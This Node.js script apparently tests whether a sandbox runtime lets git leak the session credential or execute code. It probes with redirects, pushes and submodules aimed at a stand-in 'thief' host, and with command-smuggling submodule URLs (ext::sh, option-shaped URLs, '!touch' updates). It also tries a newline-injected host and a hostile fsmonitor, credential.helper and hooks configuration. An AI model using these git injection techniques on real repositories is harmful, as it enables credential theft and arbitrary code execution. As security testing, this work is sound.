// A repository that tries to have git send the session's credential elsewhere, or run code where it may do more. Run by the
// agent in a checkout, with git as the runtime has it; its last line is the report.
import { execFileSync, spawnSync } from "node:child_process";
import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import net from "node:net";
import process from "node:process";
import { text } from "node:stream/consumers";

const checkout = "/workspace/checkout";
const thief = "http://127.0.0.1:4000";
const own = execFileSync("git", ["-C", checkout, "remote", "get-url", "origin"], { encoding: "utf8" }).trim();
const { host } = new URL(own);
const env = { ...process.env, GIT_TERMINAL_PROMPT: "0", LC_ALL: "C.UTF-8" };

/** "refused" where git fails, with what it says. */
function git(...args) {
  const { status, stderr } = spawnSync("git", args, { cwd: checkout, env, encoding: "utf8", timeout: 30_000 });
  return status === 0 ? "succeeded" : `refused: ${stderr}`;
}
const word = (answer) => answer.split(":")[0];

/** Credential for a URL, by git's own helper. */
function fill(url) {
  const { stdout } = spawnSync("git", ["-C", checkout, "credential", "fill"], {
    env,
    encoding: "utf8",
    input: `url=${url}\n\n`,
  });
  return stdout.includes("password=") ? "succeeded" : "refused";
}

/** Adds a submodule by hand, as a hostile commit has it, and initializes it as the runtime does. */
function submodule(name, config) {
  const head = execFileSync("git", ["rev-parse", "HEAD"], { cwd: checkout, encoding: "utf8" }).trim();
  writeFileSync(
    `${checkout}/.gitmodules`,
    `[submodule "${name}"]\n\tpath = ${name}\n${config.map((line) => `\t${line}\n`).join("")}`,
  );
  execFileSync("git", ["update-index", "--add", "--cacheinfo", `160000,${head},${name}`], { cwd: checkout });
  const answer = git("submodule", "update", "--init", "--recursive", "--", name);
  git("rm", "-r", "--cached", "--quiet", name);
  git("config", "--remove-section", `submodule.${name}`);
  rmSync(`${checkout}/${name}`, { recursive: true, force: true });
  rmSync(`${checkout}/.gitmodules`);
  return answer;
}
const marker = "/tmp/submodule-ran";
const ran = (answer) => (existsSync(marker) ? "ran" : word(answer));

async function askSocket(question) {
  const socket = net.connect("/run/runwright/socket/runtime.sock");
  socket.on("error", () => undefined);
  socket.write(`${JSON.stringify({ type: "credential", protocol: "https", ...question })}\n`);
  return (await text(socket)).includes("password") ? "succeeded" : "refused";
}

/** All that git starts for the repository writes down as whom it ran, and whether it saw the runtime. */
const spy = "/workspace/spy.sh";
const seen = "/workspace/spied";
writeFileSync(seen, "");
writeFileSync(
  spy,
  `#!/bin/sh
token=none; test -e /run/runwright/token && token=there
echo "$1 $(id -u) $token $(grep -lzx 'runtim[e]' /proc/[0-9]*/cmdline 2>/dev/null | wc -l)" >> ${seen}
cat 2>/dev/null </dev/null; exit 1
`,
);
chmodSync(spy, 0o755);
const set = (key, value) => execFileSync("git", ["config", key, value], { cwd: checkout });

const report = {
  "url.insteadOf to another host": word(git("-c", `url.${thief}/.insteadOf=https://${host}/`, "ls-remote", "origin")),
  "a push to another host": word(git("push", `${thief}/checkout.git`, "HEAD:refs/heads/x")),
  "a submodule on another host": word(submodule("away", [`url = ${thief}/away.git`])),
  "large files on another host (.lfsconfig)": fill(`${thief}/checkout.git/info/lfs`),
  "a redirect to another repository": word(
    git("ls-remote", `${thief}/redirect/${encodeURIComponent(`https://${host}/other.git`)}`),
  ),
  "another repository of the same server": word(git("ls-remote", `https://${host}/other.git`)),
  "its own repository without TLS": fill(`http://${host}/checkout.git`),
  "another port of its server": fill(`https://${host}:8443/checkout.git`),
  "a host with a line break in it": await askSocket({ host: `evil.example\nhost=${host}`, path: "checkout.git" }),
  "a submodule by a command (ext::)": ran(submodule("ext", [`url = ext::sh -c touch% ${marker}`])),
  "a submodule of the container's files (file://)": word(submodule("local", [`url = file://${checkout}/.git`])),
  "a submodule whose URL is an option": ran(submodule("option", [`url = -u./${marker}`])),
  "a submodule whose update is a command": ran(
    submodule("update", [`url = https://${host}/checkout.git`, `update = !touch ${marker}`]),
  ),
};
// From here on the checkout's own configuration is hostile, for the commands that the runtime runs after this prompt.
set(`url.${thief}/own/.insteadOf`, `https://${host}/`);
set("core.fsmonitor", `${spy} fsmonitor`);
set("core.sshCommand", `${spy} sshCommand`);
set("filter.spy.clean", `${spy} filter`);
set("core.hooksPath", "/workspace/hooks");
set("credential.helper", `!${spy} helper`);
mkdirSync("/workspace/hooks", { recursive: true });
for (const name of ["post-commit", "reference-transaction", "post-index-change"]) {
  writeFileSync(`/workspace/hooks/${name}`, `#!/bin/sh\n${spy} hook\nexit 0\n`, { mode: 0o755 });
}
appendFileSync(`${checkout}/.git/info/attributes`, "* filter=spy\n");
git("-c", "user.name=x", "-c", "user.email=x@example.com", "commit", "--allow-empty", "--quiet", "--message=x");
git("status");
writeFileSync(`${checkout}/new`, "");
git("add", "new");
git("ls-remote", "ssh://git@git.example.com/x.git");
const hook = JSON.parse(readFileSync("/workspace/hook.json", "utf8"));
console.log(JSON.stringify({ type: "result", summary: JSON.stringify({ hook, git: report }) }));
